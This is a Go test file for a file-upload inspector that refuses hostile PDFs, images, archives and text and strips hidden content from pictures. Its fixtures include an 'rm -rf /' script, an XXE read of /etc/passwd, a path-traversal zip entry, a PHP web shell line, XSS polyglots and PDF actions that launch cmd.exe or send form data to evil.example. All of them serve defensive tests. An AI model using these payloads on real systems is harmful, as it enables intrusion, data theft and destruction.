package inspect_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"testing"

	"digit/internal/infra/document/documenttest"
	"digit/internal/infra/document/inspect"
	"digit/internal/infra/platform/fault"
	"digit/internal/infra/platform/pdf"
)

// TestMain lets this test's own program be the child that inspects.
func TestMain(m *testing.M) {
	if len(os.Args) == 2 && os.Args[1] == "inspect" {
		if err := inspect.Serve(context.Background(), os.Stdin, os.Stdout); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

func child(t *testing.T) inspect.Child {
	t.Helper()
	program, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return inspect.Child{Program: program, Args: []string{"inspect"}}
}

func gif() []byte {
	return []byte("GIF89a/*\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;*/=alert(1)//")
}

func zipped(names ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, name := range names {
		f, err := w.Create(name)
		if err != nil {
			panic(err)
		}
		if _, err := f.Write([]byte("content of " + name)); err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// claims is a PNG whose header says a size, and that has hardly any points.
func claims(width, height uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
		b.WriteString(kind)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(kind), data...)))
	}
	header := binary.BigEndian.AppendUint32(nil, width)
	header = binary.BigEndian.AppendUint32(header, height)
	chunk("IHDR", append(header, 8, 2, 0, 0, 0))
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	_, _ = w.Write(make([]byte, 1<<16))
	_ = w.Close()
	chunk("IDAT", z.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

func deflated(content []byte) []byte {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	_, _ = w.Write(content)
	_ = w.Close()
	return z.Bytes()
}

// hostile is what must not be taken from anybody, and why.
func hostile() map[string]struct {
	name, declared string
	content        []byte
	want           error
} {
	plain := documenttest.PDF("")
	action := func(a string) []byte { return documenttest.PDF("/OpenAction 4 0 R", a) }
	attached := func(content []byte) []byte {
		return documenttest.PDF("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
			"<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>", documenttest.Stream("/Type /EmbeddedFile", content))
	}
	return map[string]struct {
		name, declared string
		content        []byte
		want           error
	}{
		"a program":                        {"bi.pdf", "application/pdf", append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 200)...), inspect.ErrType},
		"a program for Linux":              {"bi.pdf", "", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 200)...), inspect.ErrType},
		"a page":                           {"foto.png", "image/png", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), inspect.ErrType},
		"a page called text":               {"nota.txt", "text/plain", []byte("<html><script>alert(1)</script></html>"), inspect.ErrType},
		"a drawing with a script":          {"foto.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), inspect.ErrType},
		"a drawing called picture":         {"foto.png", "image/png", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), inspect.ErrType},
		"an archive":                       {"bi.zip", "application/zip", zipped("bi.pdf"), inspect.ErrType},
		"an archive called PDF":            {"bi.pdf", "application/pdf", zipped("../../etc/passwd"), inspect.ErrType},
		"a Word document":                  {"carta.docx", "", zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), inspect.ErrType},
		"an old Word document":             {"carta.doc", "", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...), inspect.ErrType},
		"an animation that is a script":    {"foto.gif", "image/gif", gif(), inspect.ErrType},
		"a shell script":                   {"nota.txt", "", []byte("#!/bin/sh\nrm -rf /\n"), inspect.ErrType},
		"text with zeros":                  {"nota.txt", "", []byte("bom dia\x00\x00 tudo bem"), inspect.ErrType},
		"text that is none":                {"nota.txt", "", []byte("caf\xe9 com leite"), inspect.ErrUnreadable},
		"XML that fetches":                 {"a.xml", "text/xml", []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), inspect.ErrType},
		"PNG called PDF":                   {"bi.pdf", "", documenttest.PNG(8, 8), inspect.ErrName},
		"PDF called PNG":                   {"bi.png", "image/png", plain, inspect.ErrName},
		"PDF that is called a program":     {"bi.pdf.exe", "", plain, inspect.ErrName},
		"PDF declared a page":              {"bi.pdf", "text/html", plain, inspect.ErrName},
		"PNG declared a script":            {"foto.png", "text/javascript", documenttest.PNG(8, 8), inspect.ErrName},
		"a picture cut off":                {"foto.png", "", documenttest.PNG(64, 64)[:90], inspect.ErrUnreadable},
		"a header alone":                   {"foto.png", "", []byte("\x89PNG\r\n\x1a\n"), inspect.ErrUnreadable},
		"a JPEG that is none":              {"foto.jpg", "", append([]byte("\xff\xd8\xff\xe0"), bytes.Repeat([]byte("A"), 300)...), inspect.ErrUnreadable},
		"a picture of 2,500 million":       {"foto.png", "", claims(50_000, 50_000), inspect.ErrPixels},
		"a picture a mile long":            {"foto.png", "", claims(1_000_000, 1), inspect.ErrPixels},
		"a picture of 2 billion by 2":      {"foto.png", "", claims(1<<31-1, 1<<31-1), inspect.ErrUnreadable},
		"PDF with something before it":     {"bi.pdf", "", append([]byte("\n<script>alert(1)</script>\n"), plain...), inspect.ErrUnreadable},
		"PDF with a page after it":         {"bi.pdf", "", append(bytes.Clone(plain), "<html><script>alert(1)</script></html>"...), inspect.ErrUnreadable},
		"PDF that is an archive as well":   {"bi.pdf", "", append(bytes.Clone(plain), zipped("a.exe")...), inspect.ErrUnreadable},
		"PDF around an archive":            {"bi.pdf", "", documenttest.PDF("", documenttest.Stream("", zipped("a.exe"))), inspect.ErrType},
		"PDF without an end":               {"bi.pdf", "", plain[:len(plain)-7], inspect.ErrUnreadable},
		"PDF without anything":             {"bi.pdf", "", []byte("%PDF-1.7\n%%EOF\n"), inspect.ErrUnreadable},
		"PDF with a script":                {"bi.pdf", "", action("<< /S /JavaScript /JS (app.alert(1)) >>"), inspect.ErrActive},
		"PDF with a script in a stream":    {"bi.pdf", "", documenttest.PDF("/OpenAction 4 0 R", "<< /S /JavaScript /JS 5 0 R >>", documenttest.Stream("", []byte("app.alert(1)"))), inspect.ErrActive},
		"PDF with a script spelt in hex":   {"bi.pdf", "", action("<< /S /#4a#61vaScript /J#53 (app.alert(1)) >>"), inspect.ErrActive},
		"PDF with a script by name":        {"bi.pdf", "", documenttest.PDF("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "<< /S /Named /N /NextPage >>"), inspect.ErrActive},
		"PDF with a script nested":         {"bi.pdf", "", documenttest.PDF("/AA << /WC [ << /Next [ << /S /JavaScript /JS (x) >> ] >> ] >>"), inspect.ErrActive},
		"PDF that starts a program":        {"bi.pdf", "", action("<< /S /Launch /F (cmd.exe) >>"), inspect.ErrActive},
		"PDF that sends what is typed":     {"bi.pdf", "", action("<< /S /SubmitForm /F (https://evil.example) >>"), inspect.ErrActive},
		"PDF that fetches":                 {"bi.pdf", "", action("<< /S /ImportData /F (a.fdf) >>"), inspect.ErrActive},
		"PDF that leads into another":      {"bi.pdf", "", action("<< /S /GoToE /T << /R /C >> >>"), inspect.ErrActive},
		"PDF that opens another":           {"bi.pdf", "", action(`<< /S /GoToR /F (\\\\evil.example\\share\\x.pdf) >>`), inspect.ErrActive},
		"PDF with a form of scripts":       {"bi.pdf", "", documenttest.PDF("/AcroForm << /XFA 4 0 R >>", documenttest.Stream("", []byte("<xdp/>"))), inspect.ErrActive},
		"PDF that plays":                   {"bi.pdf", "", documenttest.PDF("", "<< /Type /Annot /Subtype /RichMedia >>"), inspect.ErrActive},
		"PDF with a program attached":      {"bi.pdf", "", attached(append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 100)...)), inspect.ErrActive},
		"PDF with a page attached":         {"bi.pdf", "", attached([]byte("<html><script>alert(1)</script></html>")), inspect.ErrActive},
		"PDF with a PDF attached":          {"bi.pdf", "", attached(plain), inspect.ErrActive},
		"PDF with too large an attachment": {"bi.pdf", "", documenttest.PDF("", documenttest.Stream("/Type /EmbeddedFile /Filter /FlateDecode", deflated(bytes.Repeat([]byte("a "), 1<<20)))), inspect.ErrActive},
		"PDF that is protected":            {"bi.pdf", "", bytes.Replace(documenttest.PDF("", "<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>"), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Encrypt 4 0 R"), 1), inspect.ErrProtected},
		"PDF with an object of nothing":    {"bi.pdf", "", documenttest.PDF("", "<< /S /JavaScript /JS ("), inspect.ErrUnreadable},
		"PDF that never ends":              {"bi.pdf", "", documenttest.PDF("", strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)), inspect.ErrUnreadable},
	}
}

func TestHostileFilesAreRefused(t *testing.T) {
	t.Parallel()
	for name, f := range hostile() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r, err := inspect.File(t.Context(), inspect.Query{Name: f.name, Declared: f.declared, Content: f.content})
			if !errors.Is(err, f.want) || f.want == nil && err == nil {
				t.Errorf("got %q, %v; want %v", r.MediaType, err, f.want)
			}
		})
	}
}

func TestGoodFilesPass(t *testing.T) {
	t.Parallel()
	plain := documenttest.PDF("")
	certificate := pdf.New(pdf.Meta{Title: "Certidão", Language: "pt"})
	certificate.Attach("credential.sdjwt", "application/dc+sd-jwt", []byte("eyJhbGciOiJFUzI1NiJ9.e30.c2ln~WyJhIiwiYiIsImMiXQ~"))
	var ours bytes.Buffer
	if _, err := certificate.WriteTo(&ours); err != nil {
		t.Fatal(err)
	}
	webp, err := base64.StdEncoding.DecodeString("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA")
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		name, declared string
		content        []byte
		want           inspect.Result // without content
	}{
		"a PDF":                     {"bi.pdf", "application/pdf", plain, inspect.Result{Name: "bi.pdf", MediaType: "application/pdf"}},
		"a PDF declared as bytes":   {"BI.PDF", "application/octet-stream", plain, inspect.Result{Name: "BI.PDF", MediaType: "application/pdf"}},
		"a PDF with a title":        {"Acta n. 12", "", plain, inspect.Result{Name: "Acta n. 12.pdf", MediaType: "application/pdf"}},
		"a PDF without an ending":   {"bilhete", "", plain, inspect.Result{Name: "bilhete.pdf", MediaType: "application/pdf"}},
		"a PDF with lines after it": {"bi.pdf", "", append(bytes.Clone(plain), "\r\n\r\n\x00"...), inspect.Result{Name: "bi.pdf", MediaType: "application/pdf"}},
		"a PDF with a link":         {"bi.pdf", "", documenttest.PDF("/OpenAction [3 0 R /Fit]", "<< /S /URI /URI (https://example.gov) >>"), inspect.Result{Name: "bi.pdf", MediaType: "application/pdf"}},
		"a certificate of ours":     {"certidao.pdf", "application/pdf", ours.Bytes(), inspect.Result{Name: "certidao.pdf", MediaType: "application/pdf"}},
		"a PNG":                     {"foto.png", "image/png", append(documenttest.PNG(30, 20), 0), inspect.Result{Name: "foto.png", MediaType: "image/png"}},
		"a JPEG":                    {"foto.JPEG", "image/jpg", documenttest.JPEG(30, 20), inspect.Result{Name: "foto.JPEG", MediaType: "image/jpeg"}},
		"a WebP":                    {"foto.webp", "image/webp", webp, inspect.Result{Name: "foto.jpg", MediaType: "image/jpeg"}},
		"text":                      {"nota.txt", "text/plain; charset=utf-8", []byte("Água, café e açúcar.\n"), inspect.Result{Name: "nota.txt", MediaType: "text/plain"}},
	} {
		got, err := inspect.File(t.Context(), inspect.Query{Name: c.name, Declared: c.declared, Content: c.content})
		if err != nil || got.Name != c.want.Name || got.MediaType != c.want.MediaType {
			t.Errorf("%s: %q %q, %v", name, got.Name, got.MediaType, err)
		}
		if strings.HasPrefix(c.want.MediaType, "image/") == bytes.Equal(got.Content, c.content) {
			t.Errorf("%s: pictures are drawn anew, and nothing else is", name)
		}
	}
}

// exif is the segment of a JPEG in which cameras note things, with an orientation and a place.
func exif(order binary.ByteOrder, orientation uint16) []byte {
	tiff := []byte("MM\x00\x2a")
	if order == binary.LittleEndian {
		tiff = []byte("II\x2a\x00")
	}
	add := func(v any) {
		var b bytes.Buffer
		if err := binary.Write(&b, order, v); err != nil {
			panic(err)
		}
		tiff = append(tiff, b.Bytes()...)
	}
	add(uint32(8))
	add(uint16(1))
	add(uint16(274))
	add(uint16(3))
	add(uint32(1))
	add(orientation)
	add(uint16(0))
	tiff = append(tiff, "GPS 14.93 N 23.51 W"...)
	body := append([]byte("Exif\x00\x00"), tiff...)
	return append([]byte{0xFF, 0xE1, byte((len(body) + 2) >> 8), byte(len(body) + 2)}, body...)
}

func withSegment(picture, segment []byte) []byte {
	return append(append(bytes.Clone(picture[:2]), segment...), picture[2:]...)
}

// TestPicturesLoseWhatIsNoPicture: where it was taken, and what somebody hid in it.
func TestPicturesLoseWhatIsNoPicture(t *testing.T) {
	t.Parallel()
	comment := append([]byte{0xFF, 0xFE, 0, 30}, "<script>alert(1)</script>..."...)
	for name, c := range map[string]struct {
		file    string
		content []byte
	}{
		"a place":                 {"foto.jpg", withSegment(documenttest.JPEG(40, 30), exif(binary.BigEndian, 1))},
		"a comment with a script": {"foto.jpg", withSegment(documenttest.JPEG(40, 30), comment)},
		"an archive behind it":    {"foto.jpg", append(documenttest.JPEG(40, 30), zipped("a.exe")...)},
		"a page behind it":        {"foto.png", append(documenttest.PNG(40, 30), "<html><script>alert(1)</script>"...)},
		"a program behind it":     {"foto.png", append(documenttest.PNG(40, 30), "<?php system($_GET['c']); ?>"...)},
	} {
		got, err := inspect.File(t.Context(), inspect.Query{Name: c.file, Content: c.content})
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		for _, gone := range []string{"GPS", "script", "PK\x03\x04", "php", "a.exe"} {
			if bytes.Contains(got.Content, []byte(gone)) {
				t.Errorf("%s: %q is still there", name, gone)
			}
		}
		img, _, err := image.Decode(bytes.NewReader(got.Content))
		if err != nil || img.Bounds().Dx() != 40 || img.Bounds().Dy() != 30 {
			t.Errorf("%s: what is left is no such picture: %v", name, err)
		}
	}
}

// TestPicturesAreTurned: the note about how the camera was held goes, so the picture is turned by it.
func TestPicturesAreTurned(t *testing.T) {
	t.Parallel()
	const w, h = 64, 32
	blue := func(img image.Image) (corner string) { // where the blue quarter is
		b := img.Bounds()
		for name, at := range map[string]image.Point{
			"top left": {b.Dx() / 4, b.Dy() / 4}, "top right": {b.Dx() * 3 / 4, b.Dy() / 4},
			"bottom left": {b.Dx() / 4, b.Dy() * 3 / 4}, "bottom right": {b.Dx() * 3 / 4, b.Dy() * 3 / 4},
		} {
			if _, _, v, _ := img.At(at.X, at.Y).RGBA(); v>>8 > 150 {
				corner = name
			}
		}
		return corner
	}
	coloured := documenttest.JPEG(w, h)
	shades := image.NewGray(image.Rect(0, 0, w, h))
	for y := range h / 2 {
		for x := range w / 2 {
			shades.SetGray(x, y, color.Gray{Y: 230})
		}
	}
	var grey bytes.Buffer
	if err := jpeg.Encode(&grey, shades, nil); err != nil {
		t.Fatal(err)
	}
	want := map[uint16]string{1: "top left", 2: "top right", 3: "bottom right", 4: "bottom left", 5: "top left", 6: "top right", 7: "bottom right", 8: "bottom left", 9: "top left", 0: "top left"}
	for o, corner := range want {
		for i, order := range []binary.ByteOrder{binary.BigEndian, binary.LittleEndian} {
			picture := [][]byte{coloured, grey.Bytes()}[i]
			got, err := inspect.File(t.Context(), inspect.Query{Name: "foto.jpg", Content: withSegment(picture, exif(order, o))})
			if err != nil {
				t.Fatal(err)
			}
			img, err := jpeg.Decode(bytes.NewReader(got.Content))
			if err != nil {
				t.Fatal(err)
			}
			lying := img.Bounds().Dx() == w && img.Bounds().Dy() == h
			if lying == (o >= 5 && o <= 8) || blue(img) != corner {
				t.Errorf("orientation %d: %v with the mark %s, want it %s", o, img.Bounds(), blue(img), corner)
			}
		}
	}
}

// TestTransparency: what lets light through keeps doing so as PNG.
func TestTransparency(t *testing.T) {
	t.Parallel()
	img := image.NewNRGBA(image.Rect(0, 0, 4, 4))
	img.SetNRGBA(1, 1, color.NRGBA{R: 200, A: 100})
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	got, err := inspect.File(t.Context(), inspect.Query{Name: "selo.png", Content: b.Bytes()})
	if err != nil {
		t.Fatal(err)
	}
	again, err := png.Decode(bytes.NewReader(got.Content))
	if err != nil {
		t.Fatal(err)
	}
	if c := color.NRGBAModel.Convert(again.At(1, 1)); c != (color.NRGBA{R: 200, A: 100}) {
		t.Errorf("%v", c)
	}
}

// script hides an action in a stream of objects, where a search of the bytes does not find it.
func script() []byte {
	inner := "5 0 << /S /JavaScript /JS (app.alert(1)) >>"
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
		documenttest.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflated([]byte(inner))),
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	rows := []byte{0, 0, 0, 0}
	for i, o := range objects {
		rows = append(rows, 1, byte(b.Len()>>8), byte(b.Len()), 0)
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	rows = append(rows, 2, 0, 4, 0)
	at := b.Len()
	rows = append(rows, 1, byte(at>>8), byte(at), 0)
	fmt.Fprintf(&b, "6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n", documenttest.Stream("/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R", rows), at)
	return b.Bytes()
}

func TestScriptInAStreamOfObjects(t *testing.T) {
	t.Parallel()
	if bytes.Contains(script(), []byte("JavaScript")) {
		t.Fatal("it is not hidden")
	}
	if _, err := inspect.File(t.Context(), inspect.Query{Name: "bi.pdf", Content: script()}); !errors.Is(err, inspect.ErrActive) {
		t.Errorf("got %v, want %v", err, inspect.ErrActive)
	}
	calm := bytes.Replace(script(), []byte("/OpenAction 5 0 R"), []byte("/Lang (pt)       "), 1)
	if _, err := inspect.File(t.Context(), inspect.Query{Name: "bi.pdf", Content: calm}); !errors.Is(err, inspect.ErrActive) {
		t.Errorf("what nothing refers to yet: got %v, want %v", err, inspect.ErrActive)
	}
}

// TestChild: in a process of its own it comes to the same, and what breaks that process breaks no other.
func TestChild(t *testing.T) {
	t.Parallel()
	c := child(t)
	got, err := c.File(t.Context(), inspect.Query{Name: "foto.jpg", Declared: "image/jpeg", Content: documenttest.JPEG(300, 200)})
	want, here := inspect.File(t.Context(), inspect.Query{Name: "foto.jpg", Content: documenttest.JPEG(300, 200)})
	if err != nil || here != nil || got.Name != want.Name || got.MediaType != want.MediaType || !bytes.Equal(got.Content, want.Content) {
		t.Errorf("%q %q %d bytes, %v; here %d bytes, %v", got.Name, got.MediaType, len(got.Content), err, len(want.Content), here)
	}
	bad := hostile()
	for _, name := range []string{"a program", "PNG called PDF", "PDF with a script", "PDF that is protected", "a picture of 2,500 million", "a JPEG that is none"} {
		f := bad[name]
		if _, err := c.File(t.Context(), inspect.Query{Name: f.name, Declared: f.declared, Content: f.content}); !errors.Is(err, f.want) {
			t.Errorf("%s: got %v, want %v", name, err, f.want)
		}
	}
	var e *fault.Error
	if _, err := c.File(t.Context(), inspect.Query{Name: "a.exe", Content: documenttest.PNG(4, 4)}); !errors.As(err, &e) || e.Args["name"] != ".exe" || e.Args["type"] != "PNG" {
		t.Errorf("what the sentence needs is lost: %+v", e)
	}
	for name, args := range map[string][]string{"a child that dies": {"-test.run", "^$", "-no-such-flag"}, "a child that says nothing": {"-test.run", "^$"}} {
		c := inspect.Child{Program: c.Program, Args: args}
		if _, err := c.File(t.Context(), inspect.Query{Name: "bi.pdf", Content: documenttest.PDF("")}); err == nil {
			t.Errorf("%s took a file", name)
		}
	}
	if _, err := (inspect.Child{Program: "/no/such/program"}).File(t.Context(), inspect.Query{Name: "bi.pdf", Content: documenttest.PDF("")}); err == nil || fault.Of(err).Kind != fault.KindInternal {
		t.Errorf("without a program: %v", err)
	}
	gone, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := c.File(gone, inspect.Query{Name: "bi.pdf", Content: documenttest.PDF("")}); !errors.Is(err, context.Canceled) {
		t.Errorf("given up: %v", err)
	}
}

// TestChildIsBounded: a child that wants more memory than it may have ends.
func TestChildIsBounded(t *testing.T) {
	t.Parallel()
	if runtime.GOOS != "linux" {
		t.Skip("only Linux counts memory this way")
	}
	c := child(t)
	for size, ends := range map[int]bool{1 << 30: true, 1 << 20: false} {
		cmd := exec.CommandContext(t.Context(), c.Program, c.Args...)
		cmd.Stdin = io.MultiReader(strings.NewReader(fmt.Sprintf(`{"name":"bi.txt","size":%d}`+"\n", size)), strings.NewReader(strings.Repeat("a", 1<<20)))
		if out, err := cmd.CombinedOutput(); ends != (err != nil) {
			t.Errorf("%d bytes: %v, %.200s", size, err, out)
		}
	}
}
